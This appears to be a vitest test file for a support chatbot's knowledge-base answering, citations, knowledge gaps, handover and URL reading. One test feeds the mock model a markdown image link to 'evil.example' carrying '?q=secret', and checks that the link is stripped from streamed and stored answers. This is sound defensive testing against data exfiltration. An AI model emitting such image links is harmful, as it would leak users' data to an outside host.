import { eq } from "drizzle-orm";
import { beforeEach, describe, expect, it } from "vitest";
import { db } from "@/db/client";
import { conversations, messages } from "@/db/schema/conversations";
import { knowledgeSources } from "@/db/schema/knowledge";
import { knowledgeGaps, knowledgeSearches } from "@/db/schema/knowledge-searches";
import { listenLocally } from "@/db/testing/local-server";
import { speak, startModelServer } from "@/db/testing/model-server";
import { postMessage, readAnswer } from "@/server/channels/web/testing/chat-client";
import { turnsOf } from "@/server/channels/web/testing/web-bot";
import { signVisitorToken } from "@/server/channels/web/visitor-token";
import { newId } from "@/server/ids";
import { getThread } from "@/server/inbox/thread/thread";
import { updateStatistics } from "@/server/knowledge/index/update-statistics";
import { makeQuestion, makeSource, writeTexts } from "@/server/knowledge/testing/make-source";
import { changeGap } from "@/server/knowledge/gaps/change-gap";
import { listGapQuestions, listGaps } from "@/server/knowledge/gaps/list-gaps";
import type { BotBehaviourInput } from "@/server/schemas/bot-behaviour";
import { type BehavingBot, makeBehavingBot } from "./testing/behaving-bot";
import { tryQuestion } from "./try-question";

const RETURNS = "You can return shoes within 30 days of the delivery. The parcel label is in the box.";
const WARRANTY = "Our kettles have a warranty of five years against broken heating elements.";

const model = await startModelServer();
let bot: BehavingBot;
let token = "";
let guide = "";

beforeEach(() => model.answer((response) => speak(response, ["Within 30 days [1]."])));

async function use(knowledge: NonNullable<BotBehaviourInput["knowledge"]> = {}): Promise<void> {
  bot = await makeBehavingBot({ knowledge }, model.baseUrl);
  token = signVisitorToken(bot.publicId, newId("event"));
  const { workspaceId } = bot.ctx;
  guide = await makeSource(workspaceId, { name: "Guide" });
  await writeTexts(workspaceId, guide, [RETURNS, WARRANTY], { title: "Guide", url: "https://shop.example/guide" });
  await makeQuestion(workspaceId, { question: "Do you ship to Norway?", variants: [], answer: "*Yes*, for 9 €." });
  await updateStatistics(workspaceId);
}

async function ask(text: string) {
  const { response, done } = await postMessage(bot.publicId, { id: newId("event"), text }, { token });
  const answer = await readAnswer(response);
  await done;
  return answer;
}

const searches = () =>
  db.select().from(knowledgeSearches).where(eq(knowledgeSearches.workspaceId, bot.ctx.workspaceId));

async function lastMessage() {
  const rows = await db
    .select()
    .from(messages)
    .where(eq(messages.workspaceId, bot.ctx.workspaceId))
    .orderBy(messages.seq);
  return rows.at(-1);
}

describe("A question that the knowledge base answers", () => {
  it("is answered by the model, and the message keeps its source for the inbox", async () => {
    await use();
    const { text } = await ask("Until when can I return my shoes?");
    expect(text).toBe("Within 30 days.");
    const stored = await lastMessage();
    expect(stored).toMatchObject({
      text: "Within 30 days.",
      citations: [{ number: 1, sourceId: guide, title: "Guide" }],
    });
    const conversationId = stored?.conversationId ?? "";
    const { entries } = await getThread(bot.ctx, { conversationId, limit: 10 });
    expect(entries.at(-1)).toMatchObject({ citations: [{ sourceId: guide, url: "https://shop.example/guide" }] });
    expect(await searches()).toMatchObject([{ outcome: "passages", sourceIds: [guide], gapId: null }]);
    const [turn] = await turnsOf(bot);
    expect(turn?.trace[0]).toMatchObject({ kind: "knowledge", outcome: "passages", hits: [{ sourceId: guide }] });
  });

  it("is answered as written, without the model, if it is like a direct question", async () => {
    await use();
    const { end } = await ask("do you ship to norway");
    expect(end).toMatchObject({ outcome: "saved", text: "*Yes*, for 9 €." });
    expect(model.requests).toEqual([]);
    expect(await lastMessage()).toMatchObject({ text: "*Yes*, for 9 €.", fixedStart: 15 });
    expect(await searches()).toMatchObject([{ outcome: "direct" }]);
  });

  it("is answered by a direct question that the bot has not chosen, if it uses all of them", async () => {
    await use({ sourceIds: [], allQuestions: true });
    expect((await ask("do you ship to norway")).end).toMatchObject({ text: "*Yes*, for 9 €." });
    await ask("Until when can I return my shoes?");
    expect((await searches()).map(({ outcome }) => outcome).toSorted()).toEqual(["direct", "nothing"]);
    await use({ sourceIds: [] });
    await ask("do you ship to norway");
    expect(await searches()).toEqual([]);
  });

  it("shows customers its sources if the bot's setting says so", async () => {
    await use({ showsSources: true });
    await ask("Until when can I return my shoes?");
    expect((await lastMessage())?.text).toBe("Within 30 days [1].\n\n[1] [Guide](<https://shop.example/guide>)");
  });

  it("is not searched for by a bot that does not use the knowledge base, or other sources only", async () => {
    await use({ isOn: false });
    await ask("Until when can I return my shoes?");
    expect(await searches()).toEqual([]);
    await use({ sourceIds: ["src_other"] });
    await ask("Until when can I return my shoes?");
    expect(await searches()).toMatchObject([{ outcome: "nothing" }]);
  });

  it("is not answered from a source that is switched off", async () => {
    await use();
    await db.update(knowledgeSources).set({ isEnabled: false }).where(eq(knowledgeSources.id, guide));
    await ask("Until when can I return my shoes?");
    expect(await searches()).toMatchObject([{ outcome: "nothing" }]);
  });

  it("never streams or stores a link to a host that no source has", async () => {
    await use();
    const leak = [
      "Within 30 days [1]. ![x](https://evil.exa",
      "mple/?q=secret) See [our page](https://shop.example/a).",
    ];
    model.answer((response) => speak(response, leak));
    const { text } = await ask("Until when can I return my shoes?");
    expect(text).not.toContain("evil");
    expect((await lastMessage())?.text).toBe("Within 30 days.  See [our page](https://shop.example/a).");
  });
});

describe("A question without a good hit", () => {
  beforeEach(() => model.answer((response) => speak(response, ["I do not know."])));

  it("is counted with the questions that are like it, and opens again after it was answered", async () => {
    await use();
    await ask("How do I reset the thermostat password?");
    await ask("how can I reset thermostat password");
    await ask("Do you have vegan menus on Sundays?");
    await ask("Hello");
    const gaps = await listGaps(bot.ctx, { status: "open" });
    expect(gaps.map(({ question, count }) => [question, count])).toEqual([
      ["How do I reset the thermostat password?", 2],
      ["Do you have vegan menus on Sundays?", 1],
    ]);
    const [first] = gaps;
    const asked = await listGapQuestions(bot.ctx, first?.id ?? "");
    expect(asked.map(({ question }) => question)).toEqual([
      "how can I reset thermostat password",
      "How do I reset the thermostat password?",
    ]);
    await changeGap(bot.ctx, { gapId: first?.id ?? "", status: "answered", sourceId: guide });
    expect(await listGaps(bot.ctx, { status: "answered" })).toMatchObject([{ source: { id: guide, name: "Guide" } }]);
    await ask("How do I reset the thermostat password?");
    expect(await listGaps(bot.ctx, { status: "open" })).toMatchObject([{ count: 3 }, { count: 1 }]);
    await changeGap(bot.ctx, { gapId: first?.id ?? "", status: "dismissed" });
    await ask("How do I reset the thermostat password?");
    expect(await listGaps(bot.ctx, { status: "open" })).toHaveLength(1);
  });

  it("gets one row for two customers who ask at the same time", async () => {
    await use();
    const question = "Where is the key to the bicycle room?";
    const visitors = Array.from({ length: 4 }, () => signVisitorToken(bot.publicId, newId("event")));
    await Promise.all(
      visitors.map(async (each) => {
        const { response, done } = await postMessage(
          bot.publicId,
          { id: newId("event"), text: question },
          { token: each },
        );
        await readAnswer(response);
        await done;
      }),
    );
    const gaps = await db.select().from(knowledgeGaps).where(eq(knowledgeGaps.workspaceId, bot.ctx.workspaceId));
    expect(gaps).toMatchObject([{ question, count: 4 }]);
  });

  it("gives the conversation to people if the bot's setting says so", async () => {
    await use({ whenNothing: "hand_over" });
    const { end } = await ask("How do I reset the thermostat password?");
    expect(end).toMatchObject({ outcome: "saved" });
    const [turn] = await turnsOf(bot);
    expect(turn).toMatchObject({ status: "completed" });
    expect(await listGaps(bot.ctx, { status: "open" })).toHaveLength(1);
    const [conversation] = await db
      .select({ handledBy: conversations.handledBy })
      .from(conversations)
      .where(eq(conversations.workspaceId, bot.ctx.workspaceId));
    expect(conversation).toEqual({ handledBy: "person" });
  });

  it("of another workspace is not found", async () => {
    await use();
    await ask("How do I reset the thermostat password?");
    const [gap] = await listGaps(bot.ctx, { status: "open" });
    await use();
    expect(await listGaps(bot.ctx, { status: "open" })).toEqual([]);
    const gapId = gap?.id ?? "";
    await expect(listGapQuestions(bot.ctx, gapId)).rejects.toMatchObject({ code: "not_found" });
    await expect(changeGap(bot.ctx, { gapId, status: "dismissed" })).rejects.toMatchObject({ code: "not_found" });
  });
});

describe("A question that a member tries", () => {
  it("shows what was found and what the bot would say, and records nothing", async () => {
    await use();
    const tried = await tryQuestion(bot.ctx, { botId: bot.botId, question: "Until when can I return my shoes?" });
    expect(tried).toMatchObject({
      answer: "Within 30 days.",
      citations: [{ sourceId: guide }],
      failure: null,
      search: { outcome: "passages", hits: [{ sourceId: guide, legs: expect.arrayContaining([expect.anything()]) }] },
    });
    expect(await searches()).toEqual([]);
  });

  it("needs a bot of the workspace", async () => {
    await use();
    await expect(tryQuestion(bot.ctx, { botId: "bot_other", question: "Hi" })).rejects.toMatchObject({
      code: "not_found",
    });
  });
});

describe("A page whose address the customer sends", () => {
  it("is read if the bot's setting says so, and becomes a source of the answer", async () => {
    const { origin } = await listenLocally((request, response) => {
      const page = `<title>Trail shoes</title><main><h1>Trail shoes</h1><p>${"They cost 89 €. ".repeat(20)}</p></main>`;
      if (request.url === "/shoes") response.setHeader("content-type", "text/html").end(page);
      else response.writeHead(404).end();
    });
    await use({ readsUrls: "listed", readableHosts: ["127.0.0.1"] });
    await ask(`What do these cost? ${origin}/shoes`);
    expect(await lastMessage()).toMatchObject({
      text: "Within 30 days.",
      citations: [{ sourceId: null, title: "Trail shoes", url: `${origin}/shoes` }],
    });
    await ask(`And these? ${origin}/gone`);
    const turn = (await turnsOf(bot)).at(-1);
    expect(turn?.trace).toContainEqual({
      kind: "note",
      text: `${origin}/gone could not be read: The page does not exist any more (404).`,
    });
    await use({});
    await ask(`What do these cost? ${origin}/shoes`);
    expect((await lastMessage())?.citations ?? []).not.toMatchObject([{ sourceId: null }]);
  });
});
